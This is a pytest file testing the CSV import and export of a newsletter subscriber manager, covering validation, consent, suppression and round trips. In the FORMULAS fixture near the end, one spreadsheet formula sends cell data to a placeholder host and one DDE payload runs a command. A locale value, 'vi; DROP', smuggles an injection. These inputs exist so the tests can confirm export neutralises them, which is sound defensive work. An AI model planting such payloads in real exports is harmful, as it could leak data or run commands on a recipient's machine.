"""CSV import and export: bad rows named, duplicates and suppressed skipped, lossless round trip, flat memory."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import tracemalloc
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner

from syndicate import subscribers as lib
from syndicate.cli import main
from syndicate.config import Settings
from syndicate.errors import InputError
from syndicate.models import NewsList
from syndicate.store import Store, open_store
from syndicate.store.subscribers import ImportRow

DATA = Path(__file__).resolve().parent.parent / "data"


@pytest.fixture
def tin_sang(store: Store) -> NewsList:
    return lib.create_list(store, NewsList(slug="tin-sang", name="Tin sáng"))


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        w.writerows(rows)
    return path


def statuses(store: Store, list_id: int) -> dict[str, str]:
    return {p.email: s.status for p, s, _ in store.iter_subscriptions(list_id) if s is not None}


def test_bad_rows_are_named_and_the_good_rows_land(
    store: Store, settings: Settings, tin_sang: NewsList, tmp_path: Path
) -> None:
    rows = [[f"user{i}@example.org", f"Người {i}", "Asia/Ho_Chi_Minh"] for i in range(2000)]
    rows[12] = ["bob@", "Bob", "Europe/Berlin"]  # line 14 (the header is line 1)
    rows[99] = ["carol@example.org", "Carol", "Mars/Base"]  # line 101
    path = write_csv(tmp_path / "subs.csv", ["email", "name", "timezone"], rows)
    job = lib.CsvImport(store, settings, path, "tin-sang", errors_path=tmp_path / "rejects.csv", batch_size=500)
    report = job.run()
    assert (report.rows, report.new_subscriptions, report.errors) == (2000, 1998, 2)
    assert report.error_message() == (
        f"{path} line 14: 'bob@' is not an email address: there must be something after the @-sign; "
        f"{path} line 101: 'Mars/Base' is not an IANA time zone such as 'Asia/Ho_Chi_Minh' or 'Europe/Berlin' "
        "(skipped 2 of 2,000 rows; the other rows were imported)"
    )
    got = statuses(store, tin_sang.id or 0)
    assert len(got) == 1998 and set(got.values()) == {"pending"}
    assert "bob@" not in got and "carol@example.org" not in got
    assert store.get_subscriber("user1999@example.org").name == "Người 1999"
    with (tmp_path / "rejects.csv").open(encoding="utf-8", newline="") as fh:
        rejects = list(csv.reader(fh))
    assert rejects[0] == ["email", "name", "timezone", "reason"]
    assert [r[0] for r in rejects[1:]] == ["bob@", "carol@example.org"]
    # every new subscription has its import event, naming the file
    one = store.get_subscriber("user5@example.org")
    assert [(e.kind, e.source, e.detail) for e in store.events_for(one.id or 0)] == [
        ("import", "import:subs.csv", "pending")
    ]


def test_cli_import_reports_errors_in_one_line(cli: CliRunner, tmp_path: Path) -> None:
    cli.invoke(main, ["list", "create", "tin-sang", "--name", "Tin sáng"])
    write_csv(tmp_path / "subs.csv", ["email"], [["a@example.org"], ["bob@"], ["b@example.org"]])
    result = cli.invoke(main, ["subscriber", "import", "subs.csv", "--list", "tin-sang", "--confirmed"])
    assert result.exit_code == 65
    assert result.stderr == (
        "error: subs.csv line 3: 'bob@' is not an email address: there must be something after the @-sign "
        "(skipped 1 of 3 rows; the other rows were imported)\n"
    )
    assert result.stdout.startswith("subs.csv: 3 rows; added 2 subscriptions to tin-sang")
    listed = json.loads(cli.invoke(main, ["subscriber", "ls", "--json"]).output)["rows"]
    assert [(r["email"], r["subscription"]["status"]) for r in listed] == [
        ("a@example.org", "active"), ("b@example.org", "active")
    ]
    again = cli.invoke(main, ["subscriber", "import", "subs.csv", "--list", "tin-sang", "--json"])
    report = json.loads(again.stdout)
    assert (report["existing"], report["new_subscriptions"], report["errors"]) == (2, 0, 1)


def test_mailchimp_and_listmonk_headers(store: Store, settings: Settings, tin_sang: NewsList, tmp_path: Path) -> None:
    mc = write_csv(tmp_path / "mailchimp.csv", ["Email Address", "First Name", "Last Name", "TIMEZONE", "MEMBER_RATING"],
                   [["Lan@Example.ORG", "Lan", "Phạm", "Asia/Tokyo", "2"]])
    lm = write_csv(tmp_path / "listmonk.csv", ["uuid", "email", "name", "attributes", "status"],
                   [["u1", "minh@example.org", "Minh", json.dumps({"timezone": "Europe/Berlin", "locale": "en"}),
                     "enabled"],
                    ["u2", "blocked@example.org", "B", "{}", "blocklisted"]])
    lib.import_csv(store, settings, mc, "tin-sang", confirmed=True)
    refused = lib.import_csv(store, settings, lm, "tin-sang")  # "enabled" is active, with no date of consent
    assert refused.first_errors == [f"{lm} line 2: status 'active' but no confirmed date; add --confirmed if they "
                                    "already consented, or leave the status empty to import them as pending"]
    lib.import_csv(store, settings, lm, "tin-sang", confirmed=True)
    lan = store.get_subscriber("lan@example.org")
    assert (lan.email, lan.name, lan.timezone) == ("Lan@example.org", "Lan Phạm", "Asia/Tokyo")
    minh = store.get_subscriber("minh@example.org")
    assert (minh.name, minh.timezone, minh.locale) == ("Minh", "Europe/Berlin", "en")
    assert statuses(store, tin_sang.id or 0) == {
        "Lan@example.org": "active", "minh@example.org": "active", "blocked@example.org": "unsubscribed"
    }


def test_duplicates_in_the_file_and_already_subscribed(
    store: Store, settings: Settings, tin_sang: NewsList, tmp_path: Path
) -> None:
    lib.subscribe(store, settings, "old@example.org", "tin-sang", confirmed=True)
    rows = [["a@example.org"], ["A@example.org"], ["old@example.org"], ["b@example.org"], ["c@example.org"],
            ["b@EXAMPLE.org"]]
    path = write_csv(tmp_path / "dups.csv", ["email"], rows)
    report = lib.import_csv(store, settings, path, "tin-sang", batch_size=2)  # duplicates across batches too
    assert (report.new_subscriptions, report.duplicates, report.existing, report.errors) == (3, 2, 1, 0)
    assert store.count_subscribers() == 4


def test_suppression_survives_reimport(store: Store, settings: Settings, tin_sang: NewsList, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "all.csv", ["email"], [["a@example.org"], ["b@example.org"], ["c@example.org"]])
    lib.import_csv(store, settings, path, "tin-sang", confirmed=True)
    lib.unsubscribe_address(store, settings, "a@example.org", "tin-sang", source="web")
    b = store.get_subscriber("b@example.org")
    store.mark_bounced(store.get_subscription(b.id or 0, tin_sang.id or 0).id or 0)
    lib.erase(store, settings, "c@example.org")

    report = lib.import_csv(store, settings, path, "tin-sang", confirmed=True)
    assert (report.new_subscriptions, report.suppressed, report.existing) == (0, 3, 0)
    assert statuses(store, tin_sang.id or 0) == {"a@example.org": "unsubscribed", "b@example.org": "bounced"}
    with pytest.raises(Exception):  # noqa: B017 - erased stays erased
        store.get_subscriber("c@example.org")

    # only an explicit --resubscribe brings them back, and it is recorded
    report = lib.import_csv(store, settings, path, "tin-sang", confirmed=True, resubscribe=True)
    assert (report.resubscribed, report.new_subscriptions) == (2, 1)
    assert set(statuses(store, tin_sang.id or 0).values()) == {"active"}
    a = store.get_subscriber("a@example.org")
    assert [e.kind for e in store.events_for(a.id or 0)] == ["import", "unsubscribe", "resubscribe"]
    assert store.suppression(lib.address_hash("c@example.org")) is None


def test_dry_run_writes_nothing(store: Store, settings: Settings, tin_sang: NewsList, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "x.csv", ["email"], [["a@example.org"], ["nope"], ["b@example.org"]])
    report = lib.import_csv(store, settings, path, "tin-sang", dry_run=True)
    assert (report.new_subscriptions, report.errors) == (2, 1)
    assert report.error_message().endswith("(skipped 1 of 3 rows; nothing was written (dry run))")
    assert store.count_subscribers() == 0
    assert store.import_baseline() == 0


def test_unreadable_files_are_named(store: Store, settings: Settings, tin_sang: NewsList, tmp_path: Path) -> None:
    (tmp_path / "latin1.csv").write_bytes(b"email,name\na@example.org,Jos\xe9\n")
    with pytest.raises(InputError, match=r"latin1.csv line 2: not UTF-8 text \(byte 0xe9 at position 18\); save"):
        lib.import_csv(store, settings, tmp_path / "latin1.csv", "tin-sang")
    (tmp_path / "nomail.csv").write_text("name,phone\nAn,1\n", encoding="utf-8")
    with pytest.raises(InputError, match="nomail.csv line 1: no email column"):
        lib.import_csv(store, settings, tmp_path / "nomail.csv", "tin-sang")
    with pytest.raises(InputError, match="missing.csv: no such file"):
        lib.import_csv(store, settings, tmp_path / "missing.csv", "tin-sang")
    (tmp_path / "bom.csv").write_bytes("\ufeffEmail\nbom@example.org\n".encode())
    assert lib.import_csv(store, settings, tmp_path / "bom.csv", "tin-sang").new_subscriptions == 1


def test_export_then_reimport_gives_the_same_data(settings: Settings, tmp_path: Path) -> None:
    first = open_store(tmp_path / "first.db")
    lib.load_lists(first, DATA / "lists.toml")
    report = lib.import_csv(first, settings, DATA / "subscribers.csv", None, confirmed=True)
    assert (report.rows, report.new_subscriptions, report.errors) == (10, 10, 0)
    lib.subscribe(first, settings, "an.nguyen@example.org", "weekly-tech", categories=["technology"])
    exported = io.StringIO()
    assert lib.export_csv(first, exported) == 11

    second = open_store(tmp_path / "second.db")
    lib.load_lists(second, DATA / "lists.toml")
    path = tmp_path / "export.csv"
    path.write_text(exported.getvalue(), encoding="utf-8")
    again = lib.import_csv(second, settings, path, None, confirmed=True)
    assert (again.new_subscriptions, again.new_subscribers, again.errors) == (11, 10, 0)
    round_trip = io.StringIO()
    lib.export_csv(second, round_trip)
    assert round_trip.getvalue() == exported.getvalue()
    assert "佐藤 花" in exported.getvalue() and "Nguyễn Văn An" in exported.getvalue()
    assert ",unsubscribed," in exported.getvalue() and ",pending," in exported.getvalue()
    first.close()
    second.close()


def test_cli_export_filters(cli: CliRunner, tmp_path: Path) -> None:
    cli.invoke(main, ["list", "create", "--from", str(DATA / "lists.toml")])
    cli.invoke(main, ["subscriber", "import", str(DATA / "subscribers.csv"), "--confirmed"])
    out = cli.invoke(main, ["subscriber", "export", "--list", "weekly-tech", "--status", "active"])
    lines = out.stdout.splitlines()
    assert lines[0] == ",".join(lib.EXPORT_COLUMNS)
    assert len(lines) == 1 + 5 and all(",weekly-tech,active," in line for line in lines[1:])
    written = cli.invoke(main, ["subscriber", "export", "-o", "all.csv"])
    assert written.stderr == "wrote 10 rows to all.csv\n"
    assert (tmp_path / "all.csv").read_text(encoding="utf-8").count("\n") == 11


RUN_IMPORT = r"""
import resource, sys
from pathlib import Path
from syndicate.config import Secret, Settings
from syndicate.store import open_store
from syndicate import subscribers as lib

def resident():
    return int(open("/proc/self/statm").read().split()[1]) * resource.getpagesize()

store = open_store(sys.argv[1])
settings = Settings(db=sys.argv[1], secret_key=Secret("k"))
lib.load_lists(store, Path(sys.argv[3]))
job = lib.CsvImport(store, settings, Path(sys.argv[2]), "tin-sang", confirmed=True)
samples = [(rows, resident()) for rows in job]  # one sample per batch of 5,000 rows
r = job.report
print(r.rows, r.new_subscriptions, r.errors, *(f"{rows}:{rss}" for rows, rss in samples))
"""


@pytest.mark.skipif(not Path("/proc/self/statm").exists(), reason="reads resident memory from /proc (Linux)")
def test_100k_rows_import_in_flat_memory(tmp_path: Path) -> None:
    n = 100_000
    path = tmp_path / "big.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["email", "name", "timezone"])
        for i in range(n):
            w.writerow([f"người.{i}@example.org" if i % 100 == 0 else f"user.{i}@example.org", f"Người {i}",
                        "Asia/Ho_Chi_Minh"])
    # what holding every parsed row at once would cost, measured on a tenth of them
    tracemalloc.start()
    held = [ImportRow(line=i, email=f"user.{i}@example.org", email_hash=lib.address_hash(f"user.{i}@example.org"),
                      name=f"Người {i}", timezone="Asia/Ho_Chi_Minh", raw=[f"user.{i}@example.org", f"Người {i}",
                                                                             "Asia/Ho_Chi_Minh"])
            for i in range(n // 10)]
    all_rows_bytes = tracemalloc.get_traced_memory()[0] * 10
    del held
    tracemalloc.stop()

    # the import in a process of its own, sampling its resident memory after every batch
    db = tmp_path / "big.db"
    out = subprocess.run([sys.executable, "-c", RUN_IMPORT, str(db), str(path), str(DATA / "lists.toml")],
                         capture_output=True, text=True, check=True, timeout=120)
    rows, added, errors, *samples = out.stdout.split()
    assert (int(rows), int(added), int(errors)) == (n, n, 0)
    store = open_store(db)
    assert store.count_subscriptions(store.get_list("tin-sang").id or 0, "active") == n
    store.close()
    resident = {int(k): int(v) for k, v in (x.split(":") for x in samples)}
    early = resident[20_000]
    growth = max(resident.values()) - early  # from 20,000 rows in to the end
    assert growth < all_rows_bytes * 0.8 / 10, (growth, all_rows_bytes)
    assert growth < 6_000_000, growth


def test_list_column_routes_rows_and_unknown_lists_are_named(
    store: Store, settings: Settings, tmp_path: Path
) -> None:
    lib.load_lists(store, DATA / "lists.toml")
    path = write_csv(tmp_path / "mixed.csv", ["email", "list", "categories"], [
        ["a@example.org", "tin-sang", ""],
        ["b@example.org", "weekly-tech", "Công nghệ"],
        ["c@example.org", "nope", ""],
        ["d@example.org", "weekly-tech", "the-thao"],
    ])
    report = lib.import_csv(store, settings, path, None, confirmed=True)
    assert (report.new_subscriptions, report.errors) == (2, 2)
    assert report.first_errors == [
        f"{path} line 4: no list with slug 'nope'",
        f"{path} line 5: list 'weekly-tech' does not cover the-thao",
    ]
    b = store.get_subscriber("b@example.org")
    assert store.subscriptions_of(b.id or 0)[0].categories == ["cong-nghe"]


def test_cli_dry_run_and_stats(cli: CliRunner, tmp_path: Path) -> None:
    cli.invoke(main, ["list", "create", "--from", str(DATA / "lists.toml")])
    dry = cli.invoke(main, ["subscriber", "import", str(DATA / "subscribers.csv"), "--dry-run", "--confirmed"])
    assert dry.exit_code == 0 and "would add 10 subscriptions" in dry.output
    assert json.loads(cli.invoke(main, ["subscriber", "ls", "--json"]).output) == {"total": 0, "rows": []}
    cli.invoke(main, ["subscriber", "import", str(DATA / "subscribers.csv"), "--confirmed"])
    table = cli.invoke(main, ["stats"]).output.splitlines()
    assert table[0].split() == ["list", "active", "pending", "unsub", "bounced", "complaint", "growth", "30d"]
    assert table[1].split() == ["tin-sang", "3", "1", "1", "0", "0", "+3"]
    assert table[2].split() == ["weekly-tech", "5", "0", "0", "0", "0", "+5"]


# -- issue 10: consent that holds ------------------------------------------------------------


def test_a_skipped_suppressed_row_keeps_its_suppression(
    store: Store, settings: Settings, tin_sang: NewsList, tmp_path: Path
) -> None:
    """Importing a suppressed address twice must not subscribe it the second time (the skip used to drop it)."""
    path = write_csv(tmp_path / "x.csv", ["email"], [["gone@example.org"], ["hard@example.org"]])
    lib.import_csv(store, settings, path, "tin-sang", confirmed=True)
    hard = store.get_subscriber("hard@example.org")
    store.mark_bounced(store.get_subscription(hard.id or 0, tin_sang.id or 0).id or 0)
    lib.erase(store, settings, "gone@example.org")
    for _ in range(3):
        report = lib.import_csv(store, settings, path, "tin-sang", confirmed=True)
        assert (report.new_subscriptions, report.resubscribed, report.suppressed) == (0, 0, 2)
        assert store.suppression(lib.address_hash("gone@example.org")) == "erased"
        assert store.suppression(lib.address_hash("hard@example.org")) == "bounced"
    assert statuses(store, tin_sang.id or 0) == {"hard@example.org": "bounced"}


def test_the_schema_refuses_an_active_row_for_a_suppressed_address(
    store: Store, settings: Settings, tin_sang: NewsList
) -> None:
    """The rule holds whoever writes: even a direct save of an active subscription fails while suppressed."""
    import sqlite3

    r = lib.subscribe(store, settings, "an@example.org", "tin-sang")
    store.add_suppression(lib.address_hash("an@example.org"), "complained")
    sub = store.get_subscription_by_id(r.subscription.id or 0)
    sub.status = "active"
    with pytest.raises(sqlite3.IntegrityError, match="suppressed address"):
        store.save_subscription(sub)
    assert store.get_subscription_by_id(r.subscription.id or 0).status == "pending"


def test_suppressing_an_address_stops_it_on_every_list(store: Store, settings: Settings, tmp_path: Path) -> None:
    lib.load_lists(store, DATA / "lists.toml")
    a = lib.subscribe(store, settings, "an@example.org", "tin-sang", confirmed=True)
    b = lib.subscribe(store, settings, "an@example.org", "weekly-tech", confirmed=True)
    store.mark_bounced(a.subscription.id or 0, status="complained")
    assert store.get_subscription_by_id(a.subscription.id or 0).status == "complained"
    assert store.get_subscription_by_id(b.subscription.id or 0).status == "complained"
    kinds = [(e.kind, e.detail) for e in store.events_for(a.subscriber.id or 0)]
    assert kinds[-2:] == [("complaint", ""), ("complaint", "address suppressed (complained on another list)")]


def test_export_then_import_without_confirmed_keeps_active_people_active(
    settings: Settings, tmp_path: Path
) -> None:
    """Active rows with a confirmed date come back active with their own dates, never demoted to pending."""
    first = open_store(tmp_path / "first.db")
    lib.load_lists(first, DATA / "lists.toml")
    lib.import_csv(first, settings, DATA / "subscribers.csv", None, confirmed=True)
    exported = io.StringIO()
    lib.export_csv(first, exported)
    first.close()
    path = tmp_path / "export.csv"
    path.write_text(exported.getvalue(), encoding="utf-8")

    second = open_store(tmp_path / "second.db")
    lib.load_lists(second, DATA / "lists.toml")
    report = lib.import_csv(second, settings, path, None)  # no --confirmed
    assert report.errors == 0
    again = io.StringIO()
    lib.export_csv(second, again)
    assert again.getvalue() == exported.getvalue()
    # the one row that was pending in the file is the only one pending now
    assert [p.email for p, _s, _ in second.iter_subscriptions(status="pending")] == ["dung.pham@example.com"]
    second.close()


def test_active_without_a_confirmed_date_is_refused_not_demoted(
    store: Store, settings: Settings, tin_sang: NewsList, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "x.csv", ["email", "status", "confirmed"], [
        ["a@example.org", "active", "2025-03-01T08:00:00Z"],
        ["b@example.org", "active", ""],
        ["c@example.org", "subscribed", ""],
    ])
    report = lib.import_csv(store, settings, path, "tin-sang")
    assert (report.new_subscriptions, report.errors) == (1, 2)
    assert report.first_errors == [
        f"{path} line 3: status 'active' but no confirmed date; add --confirmed if they already consented, "
        "or leave the status empty to import them as pending",
        f"{path} line 4: status 'active' but no confirmed date; add --confirmed if they already consented, "
        "or leave the status empty to import them as pending",
    ]
    a = store.get_subscriber("a@example.org")
    sub = store.subscriptions_of(a.id or 0)[0]
    assert (sub.status, sub.confirmed) == ("active", datetime(2025, 3, 1, 8, tzinfo=UTC))
    with_flag = lib.import_csv(store, settings, path, "tin-sang", confirmed=True)
    assert (with_flag.new_subscriptions, with_flag.errors) == (2, 0)


def test_pending_rows_are_reported_as_not_emailed_and_can_be_found(
    store: Store, settings: Settings, tin_sang: NewsList, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "p.csv", ["email"], [["a@example.org"], ["b@example.org"]])
    report = lib.import_csv(store, settings, path, "tin-sang", confirmation_email=False)
    assert report.pending == 2
    assert report.summary().endswith("; no confirmation email queued for pending subscribers (--no-confirmation-email)")
    ids = store.pending_without_confirmation(tin_sang.id)
    assert sorted(store.get_subscription_by_id(i).subscriber_id for i in ids) == sorted(
        store.get_subscriber(e).id or 0 for e in ("a@example.org", "b@example.org"))
    store.set_confirmation_message_id(ids[0], "<confirm.1@news.example.org>")
    assert store.pending_without_confirmation(tin_sang.id) == ids[1:]
    confirmed = lib.import_csv(store, settings, write_csv(tmp_path / "c.csv", ["email"], [["c@example.org"]]),
                               "tin-sang", confirmed=True)
    assert confirmed.pending == 0 and "confirmation email" not in confirmed.summary()


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tTab", "\rCR", "'quoted", "''twice", "Nguyễn =ok"]


def test_export_neutralises_formulas_and_reimports_the_same_names(
    settings: Settings, tmp_path: Path
) -> None:
    first = open_store(tmp_path / "first.db")
    lib.create_list(first, NewsList(slug="tin-sang", name="Tin sáng"))
    for i, name in enumerate(FORMULAS):
        lib.subscribe(first, settings, f"p{i}@example.org", "tin-sang", name=name, confirmed=True)
    lib.subscribe(first, settings, "=x@example.org", "tin-sang", confirmed=True)
    out = io.StringIO()
    lib.export_csv(first, out)
    names = {p.email: p.name for p, _s, _ in first.iter_subscriptions()}
    first.close()
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", row  # no cell a spreadsheet would evaluate
    assert rows[-1][0] == "'=x@example.org"
    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    second = open_store(tmp_path / "second.db")
    lib.create_list(second, NewsList(slug="tin-sang", name="Tin sáng"))
    assert lib.import_csv(second, settings, path, None).errors == 0
    assert {p.email: p.name for p, _s, _ in second.iter_subscriptions()} == names
    again = io.StringIO()
    lib.export_csv(second, again)
    assert again.getvalue() == out.getvalue()
    second.close()


@pytest.mark.parametrize(("column", "value", "message"), [
    ("weekday", "²", "weekday '²' is not a whole number from 0 to 6"),
    ("send_hour", "７", "send_hour '７' is not a whole number from 0 to 23"),
    ("send_hour", "-1", "send_hour '-1' is not a whole number from 0 to 23"),
    ("timezone", "Asia/Ho_Chi_Minh\x00", "'Asia/Ho_Chi_Minh\\x00' is not an IANA time zone such as "
                                        "'Asia/Ho_Chi_Minh' or 'Europe/Berlin'"),
    ("locale", "vi; DROP", "locale 'vi; DROP' is not a language tag such as 'vi' or 'en-US'"),
    ("confirmed", "２０２５-01-01", "confirmed '２０２５-01-01' is not an ISO 8601 time"),
    ("cadence", "hourly", "cadence 'hourly' is not one of daily, weekly"),
    ("confirmed", "2999-01-01T00:00:00Z", "confirmed '2999-01-01T00:00:00Z' is in the future"),
    ("categories", "²", "categories '²' has no usable topic name"),
    ("name", "x" * 201, "name is 201 characters long; at most 200"),
])
def test_every_field_is_checked_per_row(
    store: Store, settings: Settings, tin_sang: NewsList, tmp_path: Path, column: str, value: str, message: str
) -> None:
    path = write_csv(tmp_path / "odd.csv", ["email", column], [["a@example.org", ""], ["b@example.org", value],
                                                               ["c@example.org", ""]])
    report = lib.import_csv(store, settings, path, "tin-sang", confirmed=True)
    assert (report.rows, report.new_subscriptions, report.errors) == (3, 2, 1)
    assert report.first_errors == [f"{path} line 3: {message}"]
    assert set(statuses(store, tin_sang.id or 0)) == {"a@example.org", "c@example.org"}


def test_resubscribe_lifts_a_suppression_only_for_rows_that_come_back(
    store: Store, settings: Settings, tin_sang: NewsList, tmp_path: Path
) -> None:
    for addr in ("a@example.org", "b@example.org"):
        store.add_suppression(lib.address_hash(addr), "complained")
    path = write_csv(tmp_path / "x.csv", ["email", "status"], [["a@example.org", "unsubscribed"],
                                                               ["b@example.org", ""]])
    report = lib.import_csv(store, settings, path, "tin-sang", confirmed=True, resubscribe=True)
    assert report.new_subscriptions == 2
    assert statuses(store, tin_sang.id or 0) == {"a@example.org": "unsubscribed", "b@example.org": "active"}
    assert store.suppression(lib.address_hash("a@example.org")) == "complained"  # still: it did not come back
    assert store.suppression(lib.address_hash("b@example.org")) is None
